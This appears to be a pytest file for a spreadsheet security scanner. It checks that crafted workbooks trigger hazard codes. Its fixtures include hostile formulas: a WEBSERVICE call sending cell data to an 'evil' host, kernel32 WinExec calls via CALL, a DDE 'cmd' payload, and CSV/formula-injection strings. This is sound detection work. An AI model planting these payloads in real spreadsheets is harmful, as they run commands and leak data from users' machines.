"""Hazard scan: each dangerous construct is reported with its code, at its cell."""

from __future__ import annotations

from pathlib import Path

import pytest

from kpixl.errors import Issue
from kpixl.workbook.hazards import MAX_CELLS_PER_CODE, formula_hazards, injection_risk, scan_hazards
from kpixl.workbook.safety import open_package

from . import hostile
from .hostile import DOC_REL, Book, Sheet, formula, inline, number, shared, worksheet


def scan(path: Path, **kwargs: object) -> list[Issue]:
    """Open a package (it must be accepted) and scan it."""
    pkg, issues = open_package(path)
    assert pkg is not None, issues
    with pkg:
        return issues + scan_hazards(pkg, **kwargs)  # type: ignore[arg-type]


def found(issues: list[Issue]) -> set[tuple[str, str, str]]:
    """(location, code, severity) of every issue."""
    return {(i.location, i.code, i.severity) for i in issues}


def test_dangerous_functions_are_located_to_their_cells(tmp_path: Path) -> None:
    cells = [
        formula("A1", '_xlfn.WEBSERVICE("http://evil/?"&B1)'),
        formula("A2", 'CALL("kernel32","WinExec","JCJ","calc",5)'),
        formula("A3", 'REGISTER.ID("kernel32","WinExec")'),
        formula("A4", '_xlfn.FILTERXML(B1,"//a")'),
        formula("A5", 'INDIRECT("B"&ROW())'),
        formula("A6", 'HYPERLINK("http://x","click")'),
        formula("A7", '"CALL(" & "WEBSERVICE(x)"'),  # only text that looks like a call
        formula("A8", "'CALL (2)'!A1+SUM(B1:B3)"),  # a sheet named like a function
    ]
    book = Book(sheets=[Sheet("Quote"), Sheet("CALL (2)", worksheet(cells))])
    issues = scan(hostile.write_xlsx(tmp_path / "f.xlsx", book))
    assert found(issues) == {
        ("f.xlsx:CALL (2)!A1", "KX606", "error"),
        ("f.xlsx:CALL (2)!A2", "KX606", "error"),
        ("f.xlsx:CALL (2)!A3", "KX606", "error"),
        ("f.xlsx:CALL (2)!A4", "KX606", "error"),
        ("f.xlsx:CALL (2)!A5", "KX607", "warning"),
        ("f.xlsx:CALL (2)!A6", "KX608", "warning"),
    }


def test_formula_injection_in_shared_and_inline_strings(tmp_path: Path) -> None:
    strings = [
        "ok",
        '=HYPERLINK("http://evil")',
        "@SUM(1)",
        "-2+3",
        "-42",
        "+",
        "\tx",
        "_x000D_=1",
        "note - fine",
    ]
    cells = [shared(f"B{i + 1}", i) for i in range(len(strings))]
    cells += [inline("C1", "+cmd"), inline("C2", "fine"), number("D1", -5)]
    book = Book(sheets=[Sheet("Actuals", worksheet(cells))], strings=strings)
    issues = scan(hostile.write_xlsx(tmp_path / "i.xlsx", book))
    assert {i.location for i in issues if i.code == "KX615"} == {
        f"i.xlsx:Actuals!{cell}" for cell in ("B2", "B3", "B4", "B7", "B8", "C1")
    }
    assert {i.severity for i in issues} == {"warning"}


def test_hidden_sheets_unless_expected(tmp_path: Path) -> None:
    book = Book(
        sheets=[
            Sheet("Quote"),
            Sheet("Old", state="hidden"),
            Sheet("_kpixl", state="veryHidden"),
            Sheet("Spy", state="veryHidden"),
        ]
    )
    path = hostile.write_xlsx(tmp_path / "h.xlsx", book)
    assert found(scan(path, expected_hidden={"_kpixl"})) == {
        ("h.xlsx:Old", "KX612", "warning"),
        ("h.xlsx:Spy", "KX613", "warning"),
    }
    assert ("h.xlsx:_kpixl", "KX613", "warning") in found(scan(path))


def test_defined_names_pointing_outside(tmp_path: Path) -> None:
    names = {
        "Local": "Quote!$A$1",
        "Table": "Table1[Amount]",
        "Indexed": "[2]Rates!$B$2",
        "Path": "'C:\\finance\\[rates.xlsx]Rates'!$A$1",
        "Url": "'https://evil.example/[x.xlsx]S'!A1",
        "Exec": 'CALL("kernel32","WinExec","JCJ","calc",5)',
    }
    issues = scan(hostile.write_xlsx(tmp_path / "n.xlsx", Book(names=names)))
    assert found(issues) == {
        ("n.xlsx:Indexed", "KX614", "error"),
        ("n.xlsx:Path", "KX614", "error"),
        ("n.xlsx:Url", "KX614", "error"),
        ("n.xlsx:Exec", "KX606", "error"),
    }


def test_package_parts_activex_embeddings_macrosheets(tmp_path: Path) -> None:
    book = Book()
    book.parts["xl/activeX/activeX1.xml"] = b"<ax/>"
    book.parts["xl/activeX/activeX1.bin"] = b"\0"
    book.parts["xl/embeddings/oleObject1.bin"] = hostile.OLE_MAGIC
    book.parts["xl/macrosheets/sheet1.xml"] = b"<xm/>"
    book.parts["xl/connections.xml"] = b"<connections/>"
    issues = scan(hostile.write_xlsx(tmp_path / "p.xlsx", book))
    assert {(i.code, i.severity) for i in issues} == {
        ("KX610", "error"),
        ("KX611", "error"),
        ("KX617", "error"),
        ("KX618", "warning"),
    }


def test_macro_content_type_without_vba_part(tmp_path: Path) -> None:
    issues = scan(
        hostile.write_xlsx(tmp_path / "m.xlsm", Book(main_type=hostile.MACRO_WORKBOOK_TYPE))
    )
    assert [(i.code, i.location) for i in issues] == [("KX609", "m.xlsm")]


def test_external_relationships_and_hyperlinks(tmp_path: Path) -> None:
    hyperlink = f"{DOC_REL}/hyperlink"
    ole = f"{DOC_REL}/oleObject"
    tail = '<hyperlinks><hyperlink ref="B4" r:id="rId1"/></hyperlinks>'
    sheet = Sheet(
        "Quote",
        worksheet([number("B4", 1)], tail=tail),
        rels=[
            (hyperlink, "https://example.com/terms", "External"),
            (ole, "file:///C:/evil.bin", "External"),
        ],
    )
    issues = scan(hostile.write_xlsx(tmp_path / "r.xlsx", Book(sheets=[sheet])))
    assert found(issues) == {
        ("r.xlsx:Quote!B4", "KX603", "warning"),
        ("r.xlsx:Quote", "KX602", "error"),
    }


def test_lying_and_honest_dimensions(tmp_path: Path) -> None:
    honest = worksheet([number("A1", 1), number("J400", 2)], "A1:J400")
    lying = worksheet([number("A1", 1)], "A1:Z100000")
    broken = worksheet([number("A1", 1)], "nonsense")
    book = Book(sheets=[Sheet("Honest", honest), Sheet("Liar", lying), Sheet("Broken", broken)])
    issues = scan(hostile.write_xlsx(tmp_path / "d.xlsx", book))
    assert found(issues) == {
        ("d.xlsx:Liar", "KX616", "warning"),
        ("d.xlsx:Broken", "KX616", "warning"),
    }


def test_cells_without_references_are_located_by_position(tmp_path: Path) -> None:
    xml = worksheet([]).replace(
        "<sheetData></sheetData>",
        '<sheetData><row r="3"><c><v>1</v></c><c t="inlineStr"><is><t>=1+1</t></is></c></row>'
        '<row><c><f>INDIRECT("A1")</f></c></row></sheetData>',
    )
    issues = scan(hostile.write_xlsx(tmp_path / "p.xlsx", Book(sheets=[Sheet("S", xml)])))
    assert found(issues) == {
        ("p.xlsx:S!B3", "KX615", "warning"),
        ("p.xlsx:S!A4", "KX607", "warning"),
    }


def test_repeated_findings_are_capped_per_sheet(tmp_path: Path) -> None:
    cells = [inline(f"A{row}", "=1") for row in range(1, 31)]
    issues = scan(
        hostile.write_xlsx(tmp_path / "c.xlsx", Book(sheets=[Sheet("S", worksheet(cells))]))
    )
    assert len([i for i in issues if i.location.startswith("c.xlsx:S!")]) == MAX_CELLS_PER_CODE
    assert [i.message for i in issues if i.location == "c.xlsx:S"] == ["10 more cells with KX615"]


def test_broken_workbook_part_still_reports_package_hazards(tmp_path: Path) -> None:
    book = Book(main_type=hostile.MACRO_WORKBOOK_TYPE)
    book.parts["xl/workbook.xml"] = b"<workbook><sheets>"
    book.parts["xl/vbaProject.bin"] = hostile.OLE_MAGIC
    issues = scan(hostile.write_xlsx(tmp_path / "w.xlsx", book))
    assert {i.code for i in issues} == {"KX609", "KX719"}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("SUM(A1:A3)", []),
        ("cmd|'/c calc'!A0", ["KX605"]),
        ('"a|b"&A1', []),
        ("'a|b'!A1", []),
        ("_xlfn.WEBSERVICE(A1)", ["KX606"]),
        ("MYCALL(1)", []),
        ("Table1[Amount]", []),
        ("[1]Sheet1!A1", ["KX619"]),
        ("'\\\\server\\share\\[b.xlsx]S'!A1", ["KX619"]),
        ('HYPERLINK("https://x","y")', ["KX608"]),
    ],
)
def test_formula_hazards(text: str, expected: list[str]) -> None:
    assert [code for code, _message, _severity in formula_hazards(text)] == expected


@pytest.mark.parametrize(
    ("text", "risky"),
    [
        ("=1+1", True),
        ("@SUM(A1)", True),
        ("\r", True),
        ("-1+2", True),
        ("_x0009_x", True),
        ("-5", False),
        ("+1.5e3", False),
        ("-", False),
        ("", False),
        ("a=b", False),
    ],
)
def test_injection_risk(text: str, risky: bool) -> None:
    assert injection_risk(text) is risky
